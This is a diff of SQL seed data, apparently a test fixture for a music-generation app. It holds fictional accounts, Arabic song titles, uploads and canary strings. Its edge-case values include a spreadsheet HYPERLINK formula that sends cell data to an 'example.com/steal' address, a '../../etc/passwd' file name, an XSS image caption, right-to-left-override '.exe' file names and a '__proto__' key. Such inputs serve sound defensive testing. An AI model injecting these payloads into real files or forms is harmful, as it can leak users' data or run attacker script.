@@ -14,13 +14,13 @@ $$;
 
 -- Two mailboxes are stored as people typed them: mixed case, a trailing space. `layla.music` is another Layla Haddad.
 INSERT INTO accounts (id, number, email, email_verified, phone, password_hash, birth_date, language, credits,
-                      clerk_user_id, ga_client_id, plan_valid_until, created_at) VALUES
-  (pg_temp.acc('layla'), 9007199254740993, 'Layla@Example.COM', true, '+966 50 000 0101', 'argon2id$sealed-layla-19d4', '1994-02-28', 'ar', 12345678901234567890.12345678, 'user_example_layla', 'GA1.1.1010101010.1700000001', 'infinity', '2025-03-01 07:15:42.123456+00'),
-  (pg_temp.acc('omar'), 9007199254740994, 'omar@example.com', true, '+966 50 000 0102', 'argon2id$sealed-omar-63b0', '1990-11-05', 'ar', 40, 'user_example_omar', 'GA1.1.2020202020.1700000002', '2027-01-01 00:00:00+03', '2025-03-02 18:00:00.000001+00'),
+                      clerk_user_id, stripe_customer_id, plan_valid_until, created_at) VALUES
+  (pg_temp.acc('layla'), 9007199254740993, 'Layla@Example.COM', true, '+966 50 000 0101', 'argon2id$sealed-layla-19d4', '1994-02-28', 'ar', 12345678901234567890.12345678, 'user_example_layla', 'cus_example_layla', 'infinity', '2025-03-01 07:15:42.123456+00'),
+  (pg_temp.acc('omar'), 9007199254740994, 'omar@example.com', true, '+966 50 000 0102', 'argon2id$sealed-omar-63b0', '1990-11-05', 'ar', 40, 'user_example_omar', 'cus_example_omar', '2027-01-01 00:00:00+03', '2025-03-02 18:00:00.000001+00'),
   (pg_temp.acc('noor'), 9007199254740995, 'noor@example.com ', true, NULL, 'argon2id$sealed-noor-a7c2', '1999-07-19', 'ar', 0.00000001, 'user_example_noor', NULL, NULL, '2025-04-11 09:30:00+00'),
-  (pg_temp.acc('yusuf'), 9007199254740996, 'yusuf@example.org', false, '+971 50 000 0104', 'argon2id$sealed-yusuf-0f5e', NULL, 'ar', -3.5, NULL, 'GA1.1.4040404040.1700000004', NULL, '2025-06-30 22:59:59.999999+00'),
+  (pg_temp.acc('yusuf'), 9007199254740996, 'yusuf@example.org', false, '+971 50 000 0104', 'argon2id$sealed-yusuf-0f5e', NULL, 'ar', -3.5, NULL, NULL, NULL, '2025-06-30 22:59:59.999999+00'),
   (pg_temp.acc('dana'), 9007199254740997, 'dana@example.org', true, NULL, 'argon2id$sealed-dana-88e1', '1987-12-31', 'en', 7, 'user_example_dana', NULL, '2026-12-31 23:59:59+00', '2025-08-08 08:08:08+00'),
-  (pg_temp.acc('layla.music'), 9007199254740998, 'layla@example.org', true, NULL, 'argon2id$sealed-namesake-5c77', '1994-02-28', 'ar', 1, 'user_example_namesake', NULL, NULL, '2025-09-09 09:09:09+00');
+  (pg_temp.acc('layla.music'), 9007199254740998, 'layla@example.org', true, NULL, 'argon2id$sealed-namesake-5c77', '1994-02-28', 'ar', 1, 'user_example_namesake', 'cus_example_namesake', NULL, '2025-09-09 09:09:09+00');
 
 INSERT INTO profiles (account_id, handle, display_name, bio, links, inferred_genres, settings, updated_at) VALUES
   (pg_temp.acc('layla'), 'layla', 'ليلى حداد', 'أكتب أغاني عن المدن والبحر. 🎵 canary-layla-7f3a', ARRAY['https://example.com/layla', 'a "quoted", {odd} link'], ARRAY['طرب', 'lo-fi'], '{"theme": "dark", "bigNumber": 12345678901234567890123456789, "ratio": 0.1000000000000000055, "__proto__": {"admin": true}}', '2026-10-02 10:00:00.000001+00'),
@@ -30,18 +30,18 @@ INSERT INTO profiles (account_id, handle, display_name, bio, links, inferred_gen
   (pg_temp.acc('dana'), 'dana', 'Dana Whitfield', 'Producer. canary-dana-e6a2', ARRAY['https://example.org/dana'], ARRAY['ambient'], '{"theme": "system"}', '2026-02-20 10:00:00+00'),
   (pg_temp.acc('layla.music'), 'layla.music', 'ليلى حداد', 'لست ليلى الأخرى. canary-namesake-90cf', '{}', ARRAY['طرب'], '{}', '2026-03-20 10:00:00+00');
 
-INSERT INTO songs (id, owner_id, title, length, genres, private, audio_path, audio_bytes, created_at) VALUES
-  (pg_temp.uid('song:layla:1'), pg_temp.acc('layla'), 'ليل بيروت', '3 minutes 21.5 seconds', ARRAY['طرب', 'بوب'], false, 's3/songs/a1.flac', 31457280, '2025-05-01 20:00:00.5+00'),
-  (pg_temp.uid('song:layla:2'), pg_temp.acc('layla'), 'على الرمل', '4 minutes 2 seconds', ARRAY['lo-fi'], false, 's3/songs/a2.flac', 28311552, '2025-07-14 20:00:00+00'),
-  (pg_temp.uid('song:layla:3'), pg_temp.acc('layla'), '=HYPERLINK("https://example.com/steal?x="&A1,"اضغط هنا")', '1 minute', ARRAY['test,ing', '{odd}'], true, 's3/songs/a3.flac', 9223372036854775807, '2025-09-30 23:59:59.999999+00'),
-  (pg_temp.uid('song:layla:4'), pg_temp.acc('layla'), E'أغنية \u202Egnos.exe\u202C canary-layla-7f3a', '2 hours 1.000001 seconds', '{}', true, 's3/songs/a4.flac', 1, '2026-01-31 21:30:00+00'),
-  (pg_temp.uid('song:layla:5'), pg_temp.acc('layla'), 'أمي 👩‍👧 🎂', '00:02:59.999999', ARRAY['طفولة'], false, 's3/songs/a5.flac', 20971520, '2026-06-15 12:00:00+00'),
-  (pg_temp.uid('song:omar:1'), pg_temp.acc('omar'), 'تقاسيم الفجر canary-omar-2c9e', '5 minutes', ARRAY['عود'], false, 's3/songs/b1.flac', 41943040, '2025-05-02 05:00:00+00'),
-  (pg_temp.uid('song:omar:2'), pg_temp.acc('omar'), 'سفر', '3 minutes', '{}', false, 's3/songs/b2.flac', 25165824, '2026-04-02 05:00:00+00'),
-  (pg_temp.uid('song:noor:1'), pg_temp.acc('noor'), 'مطر', '2 minutes 40 seconds', ARRAY['pop'], false, 's3/songs/c1.flac', 15728640, '2025-10-10 10:10:10+00'),
-  (pg_temp.uid('song:yusuf:1'), pg_temp.acc('yusuf'), '-2+3 canary-yusuf-54e0', '1 minute 1 second', '{}', true, 's3/songs/d1.flac', 1048576, '2025-11-11 11:11:11+00'),
-  (pg_temp.uid('song:dana:1'), pg_temp.acc('dana'), 'Low Tide', '6 minutes', ARRAY['ambient'], false, 's3/songs/e1.flac', 52428800, '2026-02-02 02:02:02+00'),
-  (pg_temp.uid('song:layla.music:1'), pg_temp.acc('layla.music'), 'ليل بيروت', '3 minutes 21 seconds', '{}', false, 's3/songs/f1.flac', 31457281, '2026-03-03 03:03:03+00');
+INSERT INTO songs (id, owner_id, title, length, genres, private, audio_key, audio_bytes, created_at) VALUES
+  (pg_temp.uid('song:layla:1'), pg_temp.acc('layla'), 'ليل بيروت', '3 minutes 21.5 seconds', ARRAY['طرب', 'بوب'], false, 'songs/layla-1.wav', 31457280, '2025-05-01 20:00:00.5+00'),
+  (pg_temp.uid('song:layla:2'), pg_temp.acc('layla'), 'على الرمل', '4 minutes 2 seconds', ARRAY['lo-fi'], false, 'songs/layla-2.wav', 28311552, '2025-07-14 20:00:00+00'),
+  (pg_temp.uid('song:layla:3'), pg_temp.acc('layla'), '=HYPERLINK("https://example.com/steal?x="&A1,"اضغط هنا")', '1 minute', ARRAY['test,ing', '{odd}'], true, 'songs/layla-3.wav', 9223372036854775807, '2025-09-30 23:59:59.999999+00'),
+  (pg_temp.uid('song:layla:4'), pg_temp.acc('layla'), E'أغنية \u202Egnos.exe\u202C canary-layla-7f3a', '2 hours 1.000001 seconds', '{}', true, 'songs/layla-4.wav', 1, '2026-01-31 21:30:00+00'),
+  (pg_temp.uid('song:layla:5'), pg_temp.acc('layla'), 'أمي 👩‍👧 🎂', '00:02:59.999999', ARRAY['طفولة'], false, 'songs/layla-5.wav', 20971520, '2026-06-15 12:00:00+00'),
+  (pg_temp.uid('song:omar:1'), pg_temp.acc('omar'), 'تقاسيم الفجر canary-omar-2c9e', '5 minutes', ARRAY['عود'], false, 'songs/omar-1.wav', 41943040, '2025-05-02 05:00:00+00'),
+  (pg_temp.uid('song:omar:2'), pg_temp.acc('omar'), 'سفر', '3 minutes', '{}', false, 'songs/omar-2.wav', 25165824, '2026-04-02 05:00:00+00'),
+  (pg_temp.uid('song:noor:1'), pg_temp.acc('noor'), 'مطر', '2 minutes 40 seconds', ARRAY['pop'], false, 'songs/noor-1.wav', 15728640, '2025-10-10 10:10:10+00'),
+  (pg_temp.uid('song:yusuf:1'), pg_temp.acc('yusuf'), '-2+3 canary-yusuf-54e0', '1 minute 1 second', '{}', true, 'songs/yusuf-1.wav', 1048576, '2025-11-11 11:11:11+00'),
+  (pg_temp.uid('song:dana:1'), pg_temp.acc('dana'), 'Low Tide', '6 minutes', ARRAY['ambient'], false, 'songs/dana-1.wav', 52428800, '2026-02-02 02:02:02+00'),
+  (pg_temp.uid('song:layla.music:1'), pg_temp.acc('layla.music'), 'ليل بيروت', '3 minutes 21 seconds', '{}', false, 'songs/layla.music-1.wav', 31457281, '2026-03-03 03:03:03+00');
 
 INSERT INTO lyrics (song_id, language, body, updated_at) VALUES
   (pg_temp.uid('song:layla:1'), 'ar', E'يا ليلَ بيروتَ الطويلْ\nهل في المدى بحرٌ بديلْ؟\ncanary-layla-7f3a', '2025-05-01 19:00:00+00'),
@@ -51,17 +51,17 @@ INSERT INTO lyrics (song_id, language, body, updated_at) VALUES
   (pg_temp.uid('song:noor:1'), 'ar', 'مطرٌ على شبّاكنا canary-noor-b81d', '2025-10-10 10:00:00+00'),
   (pg_temp.uid('song:layla.music:1'), 'ar', 'كلمات أخرى canary-namesake-90cf', '2026-03-03 03:00:00+00');
 
-INSERT INTO uploads (id, account_id, file_name, media_type, bytes, sha256, recorded_on, uploaded_at) VALUES
-  (pg_temp.uid('upload:layla:1'), pg_temp.acc('layla'), '../../etc/passwd', 'audio/wav', 4294967296, sha256('layla 1'), '2025-04-30', '2025-04-30 21:05:00+00'),
-  (pg_temp.uid('upload:layla:2'), pg_temp.acc('layla'), 'تسجيل canary-layla-7f3a.wav', 'audio/wav', 9007199254740993, sha256('layla 2'), '0044-03-15 BC', '2025-07-13 21:05:00+00'),
-  (pg_temp.uid('upload:layla:3'), pg_temp.acc('layla'), E'photo\u202Egpj.exe', 'image/jpeg', 204800, '\x00ff10', '-infinity', '2026-06-14 21:05:00+00'),
-  (pg_temp.uid('upload:omar:1'), pg_temp.acc('omar'), 'canary-omar-2c9e.wav', 'audio/wav', 1048576, sha256('omar 1'), '2025-05-01', '2025-05-01 21:05:00+00'),
-  (pg_temp.uid('upload:dana:1'), pg_temp.acc('dana'), 'canary-dana-e6a2.wav', 'audio/wav', 1048576, sha256('dana 1'), NULL, '2026-02-01 21:05:00+00');
+INSERT INTO uploads (id, account_id, file_name, media_type, bytes, sha256, storage_key, recorded_on, uploaded_at) VALUES
+  (pg_temp.uid('upload:layla:1'), pg_temp.acc('layla'), '../../etc/passwd', 'audio/wav', 4294967296, sha256('layla 1'), 'uploads/layla-1.wav', '2025-04-30', '2025-04-30 21:05:00+00'),
+  (pg_temp.uid('upload:layla:2'), pg_temp.acc('layla'), 'تسجيل canary-layla-7f3a.wav', 'audio/wav', 9007199254740993, sha256('layla 2'), 'uploads/layla-2.wav', '0044-03-15 BC', '2025-07-13 21:05:00+00'),
+  (pg_temp.uid('upload:layla:3'), pg_temp.acc('layla'), E'photo\u202Egnp.exe', 'image/png', 204800, '\x00ff10', 'uploads/layla-3.png', '-infinity', '2026-06-14 21:05:00+00'),
+  (pg_temp.uid('upload:omar:1'), pg_temp.acc('omar'), 'canary-omar-2c9e.wav', 'audio/wav', 1048576, sha256('omar 1'), 'uploads/omar-1.wav', '2025-05-01', '2025-05-01 21:05:00+00'),
+  (pg_temp.uid('upload:dana:1'), pg_temp.acc('dana'), 'canary-dana-e6a2.wav', 'audio/wav', 1048576, sha256('dana 1'), 'uploads/dana-1.wav', NULL, '2026-02-01 21:05:00+00');
 
-INSERT INTO pictures (id, account_id, song_id, caption, width, height, thumbnail, created_at) VALUES
-  (pg_temp.uid('picture:layla:1'), pg_temp.acc('layla'), pg_temp.uid('song:layla:1'), 'غلاف "ليل بيروت"', 1024, 1024, '\x89504e470d0a1a0a0000000d49484452', '2025-05-01 20:10:00+00'),
-  (pg_temp.uid('picture:layla:2'), pg_temp.acc('layla'), NULL, '<img src=x onerror=alert(1)> canary-layla-7f3a', 512, 768, '\xffd8ffe000104a464946', '2025-08-01 20:10:00+00'),
-  (pg_temp.uid('picture:noor:1'), pg_temp.acc('noor'), pg_temp.uid('song:noor:1'), 'canary-noor-b81d', 512, 512, '\xffd8ffe0', '2025-10-10 10:20:00+00');
+INSERT INTO pictures (id, account_id, song_id, caption, width, height, thumbnail, storage_key, created_at) VALUES
+  (pg_temp.uid('picture:layla:1'), pg_temp.acc('layla'), pg_temp.uid('song:layla:1'), 'غلاف "ليل بيروت"', 1024, 1024, '\x89504e470d0a1a0a0000000d49484452', 'pictures/layla-1.png', '2025-05-01 20:10:00+00'),
+  (pg_temp.uid('picture:layla:2'), pg_temp.acc('layla'), NULL, '<img src=x onerror=alert(1)> canary-layla-7f3a', 512, 768, '\xffd8ffe000104a464946', 'pictures/layla-2.png', '2025-08-01 20:10:00+00'),
+  (pg_temp.uid('picture:noor:1'), pg_temp.acc('noor'), pg_temp.uid('song:noor:1'), 'canary-noor-b81d', 512, 512, '\xffd8ffe0', 'pictures/noor-1.png', '2025-10-10 10:20:00+00');
 
 INSERT INTO generations (id, account_id, prompt, model, parameters, seed, took, result_song_id, created_at) VALUES
   (pg_temp.uid('generation:layla:1'), pg_temp.acc('layla'), 'أغنية هادئة عن بيروت ليلًا بصوت امرأة', 'music-2', '{"tempo": 72, "key": "D minor", "voices": ["alto"]}', 340282366920938463463374607431768211455, '00:01:12.25', pg_temp.uid('song:layla:1'), '2025-05-01 19:55:00+00'),
@@ -172,6 +172,13 @@ INSERT INTO login_events (id, account_id, ip, "userAgent", device, session_token
   (pg_temp.uid('login:omar:1'), pg_temp.acc('omar'), '198.51.100.7/32', 'Mozilla/5.0 (shared)', '{"model": "Café PC", "os": "Linux"}', 'sealed-omar-63b0-a', 0.2, true, '2026-11-02 18:40:00+00'),
   (pg_temp.uid('login:noor:1'), pg_temp.acc('noor'), '203.0.113.11', 'canary-noor-b81d', '{}', 'sealed-noor-a7c2-a', NULL, true, '2026-09-09 18:40:00+00'),
   (pg_temp.uid('login:namesake:1'), pg_temp.acc('layla.music'), '203.0.113.12', 'canary-namesake-90cf', '{}', 'sealed-namesake-5c77-a', NULL, true, '2026-09-10 18:40:00+00');
+
+-- Layla changed her telephone: the id of the old cookie stays at Google.
+INSERT INTO analytics_ids (account_id, client_id, first_seen) VALUES
+  (pg_temp.acc('layla'), 'GA1.2.909090909.1650000009', '2025-03-01'),
+  (pg_temp.acc('layla'), 'GA1.1.1010101010.1700000001', '2026-01-15'),
+  (pg_temp.acc('omar'), 'GA1.1.2020202020.1700000002', '2025-03-02'),
+  (pg_temp.acc('yusuf'), 'GA1.1.4040404040.1700000004', '2025-06-30');
 
 INSERT INTO page_views (id, account_id, browser_id, path, referrer, seconds, viewed_at)
 SELECT 9007199254740001 + n, pg_temp.acc('layla'), pg_temp.uid('browser:layla'), '/explore?page=' || n,
